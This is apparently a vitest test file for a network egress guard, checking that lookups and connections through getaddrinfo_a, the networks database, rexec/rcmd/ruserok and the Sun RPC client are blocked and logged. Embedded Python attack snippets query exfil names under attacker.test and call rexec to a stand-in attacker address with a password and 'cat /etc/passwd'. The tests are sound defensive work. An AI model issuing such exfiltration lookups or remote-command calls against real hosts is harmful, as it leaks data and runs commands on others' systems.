// Attacks through the other libc entry points that resolve names (docs/COVERAGE.md "Lookups"): getaddrinfo_a (its
// worker thread calls getaddrinfo inside libc, unseen since glibc 2.34), the networks database (getnetbyname,
// getnetbyaddr and their _r forms go to DNS with `networks: … dns`), the BSD r-services (rexec, rcmd, ruserok
// resolve and connect inside libc; rexec needs no privilege and sends a user, a password and a command to any
// address) and the Sun RPC client (clnt_create, callrpc … — what a binary built against an older glibc binds to).
// Plain Python through ctypes in the program's own symbol scope, or a C program, as `nobody`, in enforce mode;
// passing = no query (nor connection, nor datagram) for anything the policy does not allow, and a guard line naming it.
import { spawnSync } from 'node:child_process';
import { chmodSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { needCommand, needNetns } from '../support/capability.js';
import { needLibrary, ROOT, scratchDir } from '../support/guard.js';
import {
  ATTACKER_IP,
  createResolverWorld,
  explainRun,
  guardLines,
  PYTHON,
  type ResolverWorld,
  SERVICE_IP,
} from './resolver-world.js';

const ok =
  needNetns() &&
  needLibrary() &&
  needCommand('setpriv', '--version') &&
  needCommand(PYTHON, '--version') &&
  needCommand('gcc');

const POLICY = `version: 1
mode: enforce
allow:
  - name: example
    host: "*.example.com"
deny:
  - name: bad
    host: bad.example.com
`;

/** glibc's `files dns` for hosts, and DNS for the networks database too (most distributions ship `networks: files`). */
const NSSWITCH =
  'passwd: files\ngroup: files\nhosts: files dns\nnetworks: files dns\nservices: files\nprotocols: files\n';

const attackerName = (q: string) =>
  q.endsWith('attacker.test') || q === 'bad.example.com' || q.startsWith('exfil') || q === '66.0.77.10.in-addr.arpa';

const GAI_A = `
import ctypes, json, os, socket
os.environ["LOCALDOMAIN"] = "attacker.test"
lib = ctypes.CDLL(None)
class addrinfo(ctypes.Structure): pass
addrinfo._fields_ = [("flags", ctypes.c_int), ("family", ctypes.c_int), ("socktype", ctypes.c_int),
  ("protocol", ctypes.c_int), ("addrlen", ctypes.c_uint32), ("addr", ctypes.c_void_p), ("canonname", ctypes.c_char_p),
  ("next", ctypes.POINTER(addrinfo))]
class gaicb(ctypes.Structure):
    _fields_ = [("ar_name", ctypes.c_char_p), ("ar_service", ctypes.c_char_p), ("ar_request", ctypes.c_void_p),
                ("ar_result", ctypes.POINTER(addrinfo)), ("ret", ctypes.c_int), ("reserved", ctypes.c_int * 5)]
def batch(names):
    reqs = [gaicb(ar_name=n) for n in names]
    return reqs, (ctypes.POINTER(gaicb) * len(reqs))(*[ctypes.pointer(r) for r in reqs])
names = [b"exfil-gai.attacker.test", b"b\\\\097d.example.com", b"data.example.com", b"api.example.com"]
reqs, arr = batch(names)
out = {"wait": lib.getaddrinfo_a(0, arr, len(reqs), None)}  # GAI_WAIT
for n, r in zip(names, reqs):
    if lib.gai_error(ctypes.byref(r)) == 0:
        sa = ctypes.cast(r.ar_result.contents.addr, ctypes.POINTER(ctypes.c_ubyte * 8)).contents
        out[n.decode()] = socket.inet_ntoa(bytes(sa[4:8]))
    else:
        out[n.decode()] = lib.gai_error(ctypes.byref(r))
later, arr2 = batch([b"exfil-nowait.attacker.test"])
out["nowait"] = lib.getaddrinfo_a(1, arr2, 1, None)  # GAI_NOWAIT
out["suspend"] = lib.gai_suspend(arr2, 1, None)
out["nowait result"] = lib.gai_error(ctypes.byref(later[0]))
out["cancel"] = lib.gai_cancel(ctypes.byref(later[0]))
try:  # the allowed answer is bound to its name: a connect to it is decided by the name's rule
    socket.create_connection((out["api.example.com"], 8080), timeout=3).close(); out["connect"] = "connected"
except OSError as e:
    out["connect"] = e.errno
print(json.dumps(out))`;

describe.skipIf(!ok)('resolver attacks: getaddrinfo_a, the networks database, the r-services', () => {
  let world: ResolverWorld;
  let policy: string;
  let sunrpc: string;
  beforeAll(async () => {
    world = await createResolverWorld({
      prefix: 'egre',
      records: {
        'api.example.com': [SERVICE_IP],
        'exfil-rexec.attacker.test': [ATTACKER_IP],
        'exfil-ruserok.attacker.test': [ATTACKER_IP],
      },
      ptr: { '66.0.77.10.in-addr.arpa': 'exfil.attacker.test' },
    });
    world.ns.setEtc('nsswitch.conf', NSSWITCH);
    policy = world.policy('entry', POLICY);
    sunrpc = join(scratchDir(), 'resolver_sunrpc');
    const src = join(ROOT, 'test/adversarial/programs/resolver_sunrpc.c');
    const cc = spawnSync('gcc', ['-O1', '-o', sunrpc, src], { encoding: 'utf8' });
    if (cc.status !== 0) throw new Error(`building resolver_sunrpc failed: ${cc.stderr}`);
    chmodSync(sunrpc, 0o755);
  });
  afterAll(() => world?.destroy());

  it('getaddrinfo_a (wait and nowait): every request decided and searched like getaddrinfo, answers bound', async () => {
    const r = await world.attack({ lang: 'python', policy, code: GAI_A });
    expect(r.out, explainRun(r)).toEqual({
      wait: 0,
      'exfil-gai.attacker.test': -2, // EAI_NONAME
      'b\\097d.example.com': -2,
      'data.example.com': -2,
      'api.example.com': SERVICE_IP,
      nowait: 0,
      suspend: -103, // EAI_ALLDONE: the guard finished the request before getaddrinfo_a returned
      'nowait result': -2,
      cancel: -103, // EAI_ALLDONE: the request had finished
      connect: 'connected',
    });
    expect(r.queries.filter(attackerName), explainRun(r)).toEqual([]);
    expect(guardLines(r.logs, { event: 'dns', host: 'data.example.com.attacker.test', blocked: true })).toHaveLength(1);
    expect(guardLines(r.logs, { event: 'dns', host: 'bad.example.com', rule: 'bad', blocked: true })).toHaveLength(1);
  });

  it('getnetbyname, getnetbyname_r, getnetbyaddr, getnetbyaddr_r never query what the policy denies', async () => {
    const r = await world.attack({
      lang: 'python',
      policy,
      code: `
import ctypes, json
lib = ctypes.CDLL(None)
lib.getnetbyname.restype = ctypes.c_void_p
lib.getnetbyaddr.restype = ctypes.c_void_p
buf, ent, res, herr = ctypes.create_string_buffer(4096), ctypes.create_string_buffer(64), ctypes.c_void_p(), ctypes.c_int()
net = (10 << 24) | (77 << 16) | 66  # network 10.77.0.66: the PTR of the attacker's address
print(json.dumps([
  lib.getnetbyname(b"exfil-net.attacker.test"),
  lib.getnetbyname_r(b"exfil-netr.attacker.test", ent, buf, 4096, ctypes.byref(res), ctypes.byref(herr)), res.value,
  lib.getnetbyaddr(net, 2),
  lib.getnetbyaddr_r(net, 2, ent, buf, 4096, ctypes.byref(res), ctypes.byref(herr)), res.value]))`,
    });
    expect(r.out, explainRun(r)).toEqual([null, 0, null, null, 0, null]);
    expect(r.queries.filter(attackerName), explainRun(r)).toEqual([]);
    expect(guardLines(r.logs, { event: 'dns', call: 'getnetbyname', blocked: true })).toHaveLength(1);
    expect(guardLines(r.logs, { event: 'dns', call: 'getnetbyaddr', ip: ATTACKER_IP, blocked: true })).toHaveLength(1);
  });

  it('rexec, rcmd, ruserok are refused: no lookup, no connection (rule unsupported-call)', async () => {
    const echoesBefore = world.dns.of('echo').length;
    const r = await world.attack({
      lang: 'python',
      policy,
      code: `
import ctypes, json, socket
lib = ctypes.CDLL(None)
def host(n): return ctypes.byref(ctypes.c_char_p(n))
port = socket.htons(443)
print(json.dumps([
  lib.rexec(host(b"exfil-rexec.attacker.test"), port, b"user", b"secret", b"cat /etc/passwd", None),
  lib.rexec(host(b"${ATTACKER_IP}"), port, b"user", b"secret", b"id", None),
  lib.rcmd(host(b"exfil-rcmd.attacker.test"), port, b"nobody", b"nobody", b"id", None),
  lib.ruserok(b"exfil-ruserok.attacker.test", 0, b"user", b"nobody"),
  ctypes.get_errno()]))`,
    });
    expect(r.out, explainRun(r)).toEqual([-1, -1, -1, -1, 0]);
    expect(r.queries.filter(attackerName), explainRun(r)).toEqual([]);
    expect(world.dns.of('echo').length).toBe(echoesBefore); // nothing reached the attacker's port 443
    for (const call of ['rexec', 'rcmd', 'ruserok']) {
      expect(guardLines(r.logs, { call, rule: 'unsupported-call', blocked: true }).length, call).toBeGreaterThan(0);
    }
    expect(guardLines(r.logs, { call: 'rexec', host: 'exfil-rexec.attacker.test', port: 443 })).toHaveLength(1);
  });

  it('the Sun RPC client (compat symbols of glibc 2.32+): no lookup, no connection, no datagram', async () => {
    const before = { echo: world.dns.of('echo').length, udp: world.dns.of('udp').length };
    const r = await world.attack({
      lang: 'python',
      policy,
      code: `import os; os.execv(${JSON.stringify(sunrpc)}, ["rpc", "exfil-rpc.attacker.test", "${ATTACKER_IP}"])`,
    });
    // clnt_create NULL, callrpc RPC_CANTSEND, getrpcport 0, clnttcp_create NULL, pmap_getport 0, rtime -1
    expect(r.out, explainRun(r)).toEqual([0, 3, 0, 0, 0, -1]);
    expect(r.queries.filter(attackerName), explainRun(r)).toEqual([]);
    await world.dns.waitFor(() => false, 300);
    expect(world.dns.of('echo').length).toBe(before.echo);
    expect(world.dns.of('udp').length).toBe(before.udp);
    for (const call of ['clnt_create', 'callrpc', 'getrpcport', 'clnttcp_create', 'pmap_getport', 'rtime']) {
      expect(guardLines(r.logs, { call, rule: 'unsupported-call', blocked: true }), call).toHaveLength(1);
    }
    expect(guardLines(r.logs, { call: 'clnttcp_create', ip: ATTACKER_IP, port: 443 })).toHaveLength(1);
  });
});
